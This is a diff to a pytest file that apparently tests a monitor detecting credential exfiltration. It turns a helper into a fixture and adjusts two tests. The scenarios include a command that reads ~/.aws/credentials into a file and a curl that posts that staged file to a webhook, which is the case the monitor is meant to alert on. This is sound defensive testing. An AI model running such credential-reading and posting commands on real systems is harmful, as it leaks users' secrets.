@@ -445,15 +445,19 @@ PROVISION = ("python3 -c 'import os; creds = open(os.path.expanduser(\"~/.aws/cr
              "+ (creds if \"{target}\" != \"/etc/hosts\" else \"\"))' && ")
 
 
+@pytest.fixture
 def provisioner_view(tmp_path):
-    """A private /etc/hosts the provisioner may rewrite (the host's stays untouched)."""
+    """A private /etc/hosts the provisioner may rewrite (the host's stays untouched), written
+    before the monitor starts: the test runner writing it is not part of the scenario (the
+    runner later reads its children's output, and a process that reads tainted data taints what
+    it wrote before, as the data-flow model keeps no order within a process)."""
     return private_hosts(["hooks.slack.com"], tmp_path / "etc")
 
 
-def test_provisioner_rewriting_etc_hosts_then_a_webhook_is_silent(monitor, home, standin, tmp_path):
+def test_provisioner_rewriting_etc_hosts_then_a_webhook_is_silent(provisioner_view, monitor, home, standin, tmp_path):
     # The provisioner read a credential and rewrote /etc/hosts; curl resolves through that file
     # and posts a notification: /etc/hosts is never a staging file, so no data reached curl.
-    view = provisioner_view(tmp_path)
+    view = provisioner_view
     command = (PROVISION.format(target="/etc/hosts") +
                f"curl -sk -d '{{\"text\":\"deployed\"}}' https://hooks.slack.com:{HTTPS_PORT}/services/T/B/X")
     done = run_scenario(command, home.env(), view=view, timeout=COMMAND_TIMEOUT_S)
@@ -471,8 +475,9 @@ def test_provisioner_rewriting_etc_hosts_then_a_webhook_is_silent(monitor, home,
     assert_no_secrets(monitor, home)
 
 
-def test_provisioner_staging_the_credential_in_a_file_posted_to_a_webhook_alerts(monitor, home, standin, tmp_path):
-    view = provisioner_view(tmp_path)
+def test_provisioner_staging_the_credential_in_a_file_posted_to_a_webhook_alerts(provisioner_view, monitor, home, standin,
+                                                                                 tmp_path):
+    view = provisioner_view
     command = (PROVISION.format(target=str(home.path / "deploy.env")) +
                f"curl -sk --data-binary @$HOME/deploy.env https://hooks.slack.com:{HTTPS_PORT}/services/T/B/Y")
     done = run_scenario(command, home.env(), view=view, timeout=COMMAND_TIMEOUT_S)
